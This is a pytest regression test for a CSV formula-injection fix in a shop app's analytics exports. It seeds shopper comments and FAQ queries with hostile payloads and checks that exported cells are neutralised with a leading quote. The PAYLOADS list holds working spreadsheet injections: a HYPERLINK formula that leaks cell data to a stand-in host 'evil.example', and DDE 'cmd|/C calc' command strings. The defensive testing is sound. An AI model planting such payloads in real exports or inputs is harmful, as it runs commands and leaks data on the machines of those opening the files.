"""Issue 14, "CSV formula injection": what a shopper types (a survey comment, a question the FAQ
missed) came out raw in the managers' CSV exports, so `=HYPERLINK(...)` or `=cmd|...` ran in the
spreadsheet that opened them. On the real app, Redis and FAQ index, a manager downloads every
table as CSV: no cell may start a formula, and a neutralised one keeps the text after a `'`."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import redis
import redis.asyncio as aioredis
from fastapi.testclient import TestClient

from analytics import events as ev
from analytics.log import EventLog
from handoff.accounts import Accounts
from ops.redis_server import RedisServer
from retrieval.service import RetrievalService

PASSWORD = "correct horse battery"
MANAGER = "manager@shop.example"
DAY = datetime(2026, 10, 1, 12, tzinfo=UTC)
PERIOD = {"start": "2026-10-01", "end": "2026-10-01"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Voir ma commande")',
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=2+2")
TABLES = ("kpis", "daily", "breakdown", "reasons", "variants", "verbatims", "unanswered")


async def _fill(url: str) -> None:
    """Each payload as a survey comment and as a question the FAQ could not answer."""
    client = aioredis.Redis.from_url(url)
    try:
        log = EventLog(client)
        for i, text in enumerate(PAYLOADS):
            at = DAY + timedelta(minutes=i)
            cid = f"c-csv-{i}"
            await log.append(ev.message_in(conversation=cid, channel="web", lang="fr", customer=f"web:v{i}",
                                           at=at))
            await log.append(ev.faq_answered(conversation=cid, band="none", score=0.1, query=text, lang="fr",
                                             at=at))
            await log.append(ev.survey_comment(survey="csat", score=1, verbatim=text, conversation=cid,
                                               reason="delivery/tracking", at=at))
        await Accounts(client).add(MANAGER, PASSWORD, "manager")
    finally:
        await client.aclose()


@pytest.fixture
def api(app_factory: Callable[..., Any], retrieval_service: RetrievalService, redis_server: RedisServer,
        redis_client: redis.Redis) -> Iterator[TestClient]:
    asyncio.run(_fill(redis_server.url))
    with TestClient(app_factory(retrieval=retrieval_service)) as client:
        yield client


def _login(api: TestClient) -> dict[str, str]:
    res = api.post("/api/agent/login", json={"email": MANAGER, "password": PASSWORD})
    assert res.status_code == 200, res.text
    return {"Authorization": f"Bearer {res.json()['token']}"}


def _rows(api: TestClient, table: str, auth: dict[str, str], dialect: str = "plain") -> list[list[str]]:
    res = api.get(f"/api/admin/analytics/{table}", params={**PERIOD, "format": "csv", "dialect": dialect},
                  headers=auth)
    assert res.status_code == 200, res.text
    if dialect == "excel-fr":   # what French Excel reads: a BOM, then ";" between cells
        assert res.text.startswith("\ufeff")
        return list(csv.reader(io.StringIO(res.text[1:], newline=""), delimiter=";"))
    return list(csv.reader(io.StringIO(res.text, newline="")))


def _neutralised(text: str) -> str:
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _plain_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return cell.strip() == "-"          # the analytics' "unknown" dimension
    return True


@pytest.mark.parametrize("dialect", ["plain", "excel-fr"])
def test_no_csv_cell_starts_a_formula(api: TestClient, dialect: str) -> None:
    auth = _login(api)
    for table in TABLES:
        for row in _rows(api, table, auth, dialect):
            for cell in row:
                number = _plain_number(cell.replace(",", "."))   # "-12,5" in French
                assert not cell.startswith(FORMULA_STARTS) or number, (table, cell)


def test_french_excel_gets_columns_and_decimal_commas(api: TestClient) -> None:
    auth = _login(api)
    plain = {row[0]: row[1] for row in _rows(api, "kpis", auth)[1:]}
    french = {row[0]: row[1] for row in _rows(api, "kpis", auth, "excel-fr")[1:]}
    assert plain.keys() == french.keys() and len(plain) > 10            # one metric per row, two columns
    decimals = [k for k, v in plain.items() if "." in v and _plain_number(v)]
    assert decimals and all(french[k] == plain[k].replace(".", ",") for k in decimals)
    assert api.get("/api/admin/analytics/kpis", params={**PERIOD, "format": "csv", "dialect": "xlsx"},
                   headers=auth).status_code == 422


def test_shopper_text_is_kept_behind_a_quote(api: TestClient) -> None:
    auth = _login(api)
    body = api.get("/api/admin/analytics/verbatims", params=PERIOD, headers=auth).json()
    stored = [v["text"] for v in body["verbatims"]]
    assert sum(t.startswith(FORMULA_STARTS) for t in stored) >= 4, "the attack must reach the export"
    header, *rows = _rows(api, "verbatims", auth)
    exported = [row[header.index("text")] for row in rows]
    assert exported == [_neutralised(t) for t in stored]

    topics = api.get("/api/admin/analytics/unanswered", params=PERIOD, headers=auth).json()["topics"]
    assert any(t["label"].startswith(FORMULA_STARTS) for t in topics), "the attack must reach the export"
    header, *rows = _rows(api, "unanswered", auth)
    labels = [row[header.index("topic")] for row in rows]
    assert labels == [_neutralised(t["label"]) for t in topics]
